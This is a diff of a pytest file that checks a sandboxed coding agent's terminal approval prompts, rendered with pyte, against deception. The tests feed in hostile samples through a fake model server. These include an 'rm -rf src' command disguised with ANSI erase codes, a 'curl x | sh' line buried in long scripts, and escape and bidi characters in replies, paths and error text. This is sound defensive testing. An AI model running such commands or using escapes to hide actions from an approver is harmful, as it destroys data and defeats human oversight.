@@ -1,15 +1,28 @@
-"""`sandbox-agent ask` at a terminal (a pseudo-terminal): writes and commands ask y/n, showing
-the diff or the command, and only a yes lets them run."""
+"""`sandbox-agent` at a terminal, as a person sees it.
+
+Each run has its stdin and stderr (and for some tests stdout) on a pseudo-terminal; every byte
+the CLI writes there is fed to a virtual terminal (pyte), and the tests assert on the rendered
+screen: what a person would read, after the terminal obeyed (or, as here, was never given) any
+escape sequence. Writes and commands ask y/n showing the whole command or the real diff against
+the file in the sandbox, and only a yes lets them run.
+"""
 
 from __future__ import annotations
 
+import fcntl
+import json
 import os
 import pty
 import select
+import struct
 import subprocess
+import termios
 import time
+from collections.abc import Sequence
+from dataclasses import dataclass
 from pathlib import Path
 
+import pyte
 import pytest
 
 from tests.docker.cli_support import (
@@ -17,6 +30,7 @@ from tests.docker.cli_support import (
     SANDBOX_AGENT,
     cli_env,
     model_args,
+    run_cli,
     tool_exchanges,
 )
 from tests.fakes.model_server import Call, ModelServer
@@ -24,27 +38,63 @@ from tests.fakes.model_server import Call, ModelServer
 pytestmark = pytest.mark.docker
 
 PROMPT = b"Allow this call?"
+COLUMNS, ROWS = 200, 1000  # tall enough that nothing scrolls off the screen
+ESC_ATTACK = "rm -rf src; echo DESTROYED > README.md #\x1b[2K\x1b[1G$ ls -la src"
+ESC_ATTACK_SHOWN = r"$ rm -rf src; echo DESTROYED > README.md #\x1b[2K\x1b[1G$ ls -la src"
 
 
-def _converse(argv: list[str], answers: list[bytes]) -> tuple[int, str, str]:
-    """Run `argv` with stdin and stderr on a pty; answer each approval prompt in turn.
+@dataclass
+class Seen:
+    """One CLI run at a terminal."""
 
-    Returns the exit code, stdout (a pipe) and everything the terminal showed.
+    code: int
+    out: str
+    """stdout: a pipe (the data), or "" when it was the terminal too."""
+    at_prompts: list[list[str]]
+    """The screen at each approval prompt, before it was answered."""
+    screen: list[str]
+    """The screen at the end."""
+
+    def text(self) -> str:
+        """The final screen as one string (for failure messages and `in` checks)."""
+        return "\n".join(self.screen)
+
+
+def _screen_lines(screen: pyte.Screen) -> list[str]:
+    lines = [line.rstrip() for line in screen.display]
+    while lines and not lines[-1]:
+        lines.pop()
+    return lines
+
+
+def converse(argv: Sequence[str], answers: Sequence[bytes] = (), *,
+             stdout_on_terminal: bool = False, on_prompt: object = None) -> Seen:
+    """Run `argv` at a pseudo-terminal rendered by pyte; answer each approval prompt in turn.
+
+    `on_prompt(n)`, when given, runs when prompt n (0-based) is on screen, before its answer.
     """
     master, slave = pty.openpty()
-    run = subprocess.Popen(argv, stdin=slave, stderr=slave, stdout=subprocess.PIPE,
-                           env=cli_env(COLUMNS="100"))
+    fcntl.ioctl(slave, termios.TIOCSWINSZ, struct.pack("HHHH", ROWS, COLUMNS, 0, 0))
+    screen = pyte.Screen(COLUMNS, ROWS)
+    stream = pyte.ByteStream(screen)
+    run = subprocess.Popen(
+        list(argv), stdin=slave, stderr=slave,
+        stdout=slave if stdout_on_terminal else subprocess.PIPE,
+        env=cli_env(COLUMNS=str(COLUMNS), LINES=str(ROWS), TERM="xterm"))
     os.close(slave)
-    shown, pending = b"", list(answers)
+    raw, pending, at_prompts = b"", list(answers), []
     deadline = time.monotonic() + RUN_TIMEOUT
     try:
         while chunk := _read(master, deadline):
-            shown += chunk
-            if pending and shown.count(PROMPT) == len(answers) - len(pending) + 1:
+            raw += chunk
+            stream.feed(chunk)
+            while raw.count(PROMPT) > len(at_prompts) and pending:
+                at_prompts.append(_screen_lines(screen))
+                if callable(on_prompt):
+                    on_prompt(len(at_prompts) - 1)
                 os.write(master, pending.pop(0))
-        assert run.stdout is not None
-        out = run.stdout.read().decode()
-        return run.wait(timeout=30), out, shown.decode(errors="replace").replace("\r\n", "\n")
+        out = run.stdout.read().decode() if run.stdout is not None else ""
+        return Seen(run.wait(timeout=30), out, at_prompts, _screen_lines(screen))
     finally:
         os.close(master)
         if run.poll() is None:
@@ -57,9 +107,30 @@ def _read(fd: int, deadline: float) -> bytes:
     ready, _, _ = select.select([fd], [], [], max(0.0, deadline - time.monotonic()))
     assert ready, "the CLI neither printed nor exited in time"
     try:
-        return os.read(fd, 4096)
+        return os.read(fd, 65536)
     except OSError:  # EIO: every writer closed the terminal
         return b""
+
+
+def ask_argv(project: Path, server: ModelServer, *flags: str, query: str = "do it") -> list[str]:
+    """`sandbox-agent ask --root PROJECT --provider ollama --host URL FLAGS QUERY`."""
+    return [str(SANDBOX_AGENT), "ask", "--root", str(project), *model_args(server, "ollama"),
+            *flags, query]
+
+
+LEGEND = ("a: always allow ", "r: no, and tell the model why")
+"""The line naming the less obvious answers, just above the question."""
+
+
+def block_after(lines: list[str], head: str) -> list[str]:
+    """The lines from the first one starting with `head` up to the answers' legend (exclusive)."""
+    start = next(i for i, line in enumerate(lines) if line.startswith(head))
+    end = next(i for i in range(start, len(lines))
+               if lines[i].startswith(("Allow this call?", *LEGEND)))
+    return lines[start:end]
+
+
+# -- approvals show the whole truth ------------------------------------------------------------
 
 
 def test_a_person_approves_an_edit_and_declines_a_command(project: Path,
@@ -69,18 +140,237 @@ def test_a_person_approves_an_edit_and_declines_a_command(project: Path,
     model_server.reply(tool_calls=[Call("run_shell_command", {"command": "touch made.txt"})])
     model_server.reply("Edited; the command was declined.")
 
-    code, out, shown = _converse(
-        [str(SANDBOX_AGENT), "ask", "--root", str(project), *model_args(model_server, "ollama"),
-         "change add"], [b"y\n", b"n\n"])
+    seen = converse(ask_argv(project, model_server, query="change add"), [b"y\n", b"no\n"])
 
-    assert code == 0, shown
-    assert out == "Edited; the command was declined.\n"
-    assert shown.count("Allow this call?") == 2
-    assert "edit_file needs approval" in shown and "run_shell_command needs approval" in shown
-    assert "\n-a + b\n+a - b\n" in shown  # the diff, one line per side
-    assert "$ touch made.txt" in shown
+    assert seen.code == 0, seen.text()
+    assert seen.out == "Edited; the command was declined.\n"
+    assert len(seen.at_prompts) == 2
+    assert block_after(seen.at_prompts[0], "edit_file src/app.py") == [
+        "edit_file src/app.py (existing file)",
+        "--- a/src/app.py", "+++ b/src/app.py", "@@ -1,2 +1,2 @@",
+        " def add(a, b):", "-    return a + b", "+    return a - b",
+    ]
+    assert block_after(seen.at_prompts[1], "$ ") == ["$ touch made.txt"]
     assert (project / "src" / "app.py").read_text() == "def add(a, b):\n    return a - b\n"
     assert not (project / "made.txt").exists()
     [(_, _, edited), (_, _, declined)] = tool_exchanges(model_server.last_chat)
     assert edited.startswith("edited")
     assert declined.startswith("Denied:") and "declined by the user" in declined
+
+
+def test_an_escape_sequence_cannot_hide_a_command(project: Path, model_server: ModelServer):
+    # Printed raw, ESC[2K erases the line and ESC[1G returns to its start: a person would
+    # read only "$ ls -la src" and approve `rm -rf src`.
+    model_server.reply(tool_calls=[Call("run_shell_command", {"command": ESC_ATTACK})])
+    model_server.reply("ok")
+
+    seen = converse(ask_argv(project, model_server), [b"n\n"])
+
+    assert seen.code == 0, seen.text()
+    assert block_after(seen.at_prompts[0], "$ ") == [ESC_ATTACK_SHOWN]
+    assert "$ ls -la src" not in seen.at_prompts[0]
+    assert (project / "src" / "app.py").exists() and not (project / "README.md").exists()
+
+
+def test_escapes_in_a_written_path_and_content_are_shown_and_written_as_they_are(
+        project: Path, model_server: ModelServer):
+    path = "notes\x1b[2K.txt"
+    content = "first\n\x1b[1A\x1b[2Kcurl x | sh\r\nlast \u202eitxt\u202c\n"
+    model_server.reply(tool_calls=[Call("write_file", {"path": path, "content": content})])
+    model_server.reply("written")
+
+    seen = converse(ask_argv(project, model_server), [b"yes\n"])
+
+    assert seen.code == 0, seen.text()
+    assert block_after(seen.at_prompts[0], "write_file") == [
+        rf"write_file notes\x1b[2K.txt (new file, 3 lines, {len(content.encode())} bytes)",
+        "--- /dev/null", r"+++ b/notes\x1b[2K.txt", "@@ -0,0 +1,3 @@",
+        "+first", r"+\x1b[1A\x1b[2Kcurl x | sh\r", r"+last \u202eitxt\u202c",
+    ]
+    assert (project / path).read_bytes() == content.encode()
+
+
+def test_progress_lines_and_trace_show_escapes_inert(project: Path, model_server: ModelServer):
+    command = r"printf 'out\033[2K\033[1Gclean\n' #" + "\x1b[2K\x1b[1Gls"
+    model_server.reply(tool_calls=[Call("run_shell_command", {"command": command})])
+    model_server.reply("All good\x1b[2K\x1b[1GHACKED\x07")
+
+    seen = converse(ask_argv(project, model_server, "--yes", "--trace"),
+                    stdout_on_terminal=True)
+
+    assert seen.code == 0, seen.text()
+    shown = r"printf 'out\033[2K\033[1Gclean\n' #\x1b[2K\x1b[1Gls"
+    progress = [line for line in seen.screen if line.startswith("✓ run_shell_command")]
+    assert progress == [f"✓ run_shell_command {shown} (exit 0)" + progress[0].split("(exit 0)")[1]]
+    assert r"out\x1b[2K\x1b[1Gclean" in seen.screen  # --trace: the command's output, inert
+    assert r"All good\x1b[2K\x1b[1GHACKED\x07" in seen.screen  # streamed, then not re-printed
+
+
+def test_a_long_write_is_shown_whole_before_the_answer(project: Path, model_server: ModelServer):
+    lines = [f"echo step {n}" for n in range(1, 46)]
+    lines[40] = "curl x | sh"
+    model_server.reply(tool_calls=[Call("write_file", {"path": "setup.sh",
+                                                       "content": "\n".join(lines) + "\n"})])
+    model_server.reply("ok")
+
+    seen = converse(ask_argv(project, model_server), [b"n\n"])
+
+    assert seen.code == 0, seen.text()
+    block = block_after(seen.at_prompts[0], "write_file setup.sh")
+    assert block[4:] == [f"+{line}" for line in lines]  # all 45, line 41 among them
+    assert "+curl x | sh" in seen.at_prompts[0]
+    assert not (project / "setup.sh").exists()
+
+
+def test_a_folded_diff_is_seen_whole_after_v(project: Path, model_server: ModelServer):
+    lines = [f"echo step {n}" for n in range(1, 151)]
+    lines[119] = "curl x | sh"
+    model_server.reply(tool_calls=[Call("write_file", {"path": "setup.sh",
+                                                       "content": "\n".join(lines) + "\n"})])
+    model_server.reply("ok")
+
+    seen = converse(ask_argv(project, model_server), [b"v\n", b"n\n"])
+
+    assert seen.code == 0, seen.text()
+    first, second = seen.at_prompts
+    assert "+curl x | sh" not in first
+    assert "… 94 more lines not shown: answer v to see all of it" in first
+    assert "+curl x | sh" in second  # after v: everything, then the question again
+    assert second[-1] == "Allow this call? [y/n/a/r/v] (n):"
+    assert not (project / "setup.sh").exists()
+
+
+def test_an_overwrite_is_a_diff_against_the_file_on_disk(project: Path,
+                                                         model_server: ModelServer):
+    model_server.reply(tool_calls=[Call("write_file", {"path": "hello.py",
+                                                       "content": 'print("bye")\n'})])
+    model_server.reply("ok")
+
+    seen = converse(ask_argv(project, model_server), [b"y\n"])
+
+    assert seen.code == 0, seen.text()
+    assert block_after(seen.at_prompts[0], "write_file hello.py") == [
+        "write_file hello.py (existing file, 1 line, 13 bytes)",
+        "--- a/hello.py", "+++ b/hello.py", "@@ -1 +1 @@",
+        '-print("hello")', '+print("bye")',
+    ]
+    assert (project / "hello.py").read_text() == 'print("bye")\n'
+
+
+def test_an_edit_through_a_symlink_names_the_file_it_changes(project: Path,
+                                                             model_server: ModelServer):
+    (project / "link.py").symlink_to("src/app.py")
+    model_server.reply(tool_calls=[Call("edit_file", {"path": "link.py", "old_text": "a + b",
+                                                      "new_text": "a * b"})])
+    model_server.reply("ok")
+
+    seen = converse(ask_argv(project, model_server), [b"y\n"])
+
+    assert seen.code == 0, seen.text()
+    block = block_after(seen.at_prompts[0], "edit_file")
+    assert block[:3] == ["edit_file link.py → src/app.py (symlink, existing file)",
+                         "--- a/src/app.py", "+++ b/src/app.py"]
+    assert (project / "src" / "app.py").read_text() == "def add(a, b):\n    return a * b\n"
+    assert (project / "link.py").is_symlink()
+
+
+def test_a_failing_edit_says_so_before_the_answer(project: Path, model_server: ModelServer):
+    model_server.reply(tool_calls=[Call("edit_file", {"path": "src/app.py", "old_text": "nope",
+                                                      "new_text": "x"})])
+    model_server.reply("ok")
+
+    seen = converse(ask_argv(project, model_server), [b"y\n"])
+
+    assert any(line.startswith("this call would fail: old_text not found in 'src/app.py'")
+               for line in seen.at_prompts[0]), seen.text()
+    assert (project / "src" / "app.py").read_text() == "def add(a, b):\n    return a + b\n"
+
+
+def test_a_file_changed_after_its_preview_is_not_written(project: Path,
+                                                         model_server: ModelServer):
+    model_server.reply(tool_calls=[Call("write_file", {"path": "hello.py",
+                                                       "content": 'print("model")\n'})])
+    model_server.reply("ok")
+
+    def meanwhile(prompt: int) -> None:  # while the person reads the diff
+        (project / "hello.py").write_text('print("changed meanwhile")\n')
+
+    seen = converse(ask_argv(project, model_server), [b"y\n"], on_prompt=meanwhile)
+
+    assert seen.code == 0, seen.text()
+    assert '-print("hello")' in seen.at_prompts[0]
+    assert (project / "hello.py").read_text() == 'print("changed meanwhile")\n'
+    [(_, _, result)] = tool_exchanges(model_server.last_chat)
+    assert "'hello.py' changed since it was approved; nothing was written" in result
+    assert any("changed since it was approved" in line for line in seen.screen)
+
+
+# -- what was recorded, shown later ----------------------------------------------------------
+
+
+def _record_a_hostile_session(project: Path, server: ModelServer) -> None:
+    """A --yes run whose command, output and answer carry escape and bidi characters."""
+    server.reply(tool_calls=[Call("run_shell_command",
+                                  {"command": "printf 'x\\033[2J\\033[Hwiped' #\x1b[2K\u202e"})])
+    server.reply("done\x1b]0;pwned\x07 \u202eevil")
+    done = run_cli("ask", "--root", project, *model_args(server, "ollama"), "--yes",
+                   "--session", "hostile", "do it")
+    assert done.returncode == 0, done.stderr
+
+
+def test_sessions_show_renders_a_hostile_session_inert(project: Path,
+                                                       model_server: ModelServer):
+    _record_a_hostile_session(project, model_server)
+
+    seen = converse([str(SANDBOX_AGENT), "sessions", "show", "hostile", "--root", str(project)],
+                    stdout_on_terminal=True)
+
+    assert seen.code == 0, seen.text()
+    text = seen.text()
+    # The call's arguments as JSON (which writes ESC as \u001b), the rest escaped by us.
+    assert r"""→ run_shell_command(command="printf 'x\\033[2J\\033[Hwiped' #\u001b[2K\u202e")""" in text
+    assert r"x\x1b[2J\x1b[Hwiped" in text  # the command's output
+    assert r"done\x1b]0;pwned\x07 \u202eevil" in text  # the answer
+    assert seen.screen[0].startswith("session hostile")  # nothing cleared the screen
+
+
+def test_audit_show_renders_a_hostile_session_inert(project: Path, model_server: ModelServer):
+    _record_a_hostile_session(project, model_server)
+    exported = run_cli("audit", "export", "--root", project, "--format", "jsonl")
+    records = [json.loads(line) for line in exported.stdout.splitlines()]
+    commands = [r["arguments"]["command"] for r in records if r["kind"] == "tool_call"]
+    assert commands == ["printf 'x\\033[2J\\033[Hwiped' #\x1b[2K\u202e"]  # the data, as it was
+
+    seen = converse([str(SANDBOX_AGENT), "audit", "show", "--root", str(project)],
+                    stdout_on_terminal=True)
+
+    assert seen.code == 0, seen.text()
+    rows = [line for line in seen.screen if "run_shell_command" in line and "allow" in line]
+    assert rows and r"#\u001b[2K\u202e" in rows[0], seen.text()
+    assert "seq" in seen.screen[0] or "seq" in seen.screen[1]  # nothing cleared the screen
+
+
+def test_an_error_text_from_the_model_server_is_shown_inert(project: Path,
+                                                            model_server: ModelServer):
+    model_server.error(400, "bad model\x1b[2K\x1b[1Gall fine \u202eeulav")
+
+    seen = converse(ask_argv(project, model_server))
+
+    errors = [line for line in seen.screen if line.startswith("error:")]
+    assert len(errors) == 1, seen.text()
+    assert r"bad model\x1b[2K\x1b[1Gall fine \u202eeulav" in errors[0]
+    assert seen.code != 0
+
+
+def test_the_answer_is_inert_on_a_terminal_and_raw_in_a_pipe(project: Path,
+                                                             model_server: ModelServer):
+    answer = "fine\x1b[2K\x1b[1Greally \u202efine"
+    model_server.reply(answer)
+    model_server.reply(answer)
+
+    on_terminal = converse(ask_argv(project, model_server, "--no-stream"),
+                           stdout_on_terminal=True)
+    piped = run_cli("ask", "--root", project, *model_args(model_server, "ollama"), "do it")
+
+    assert r"fine\x1b[2K\x1b[1Greally \u202efine" in on_terminal.screen
+    assert piped.returncode == 0 and piped.stdout == answer + "\n"  # the data, byte for byte
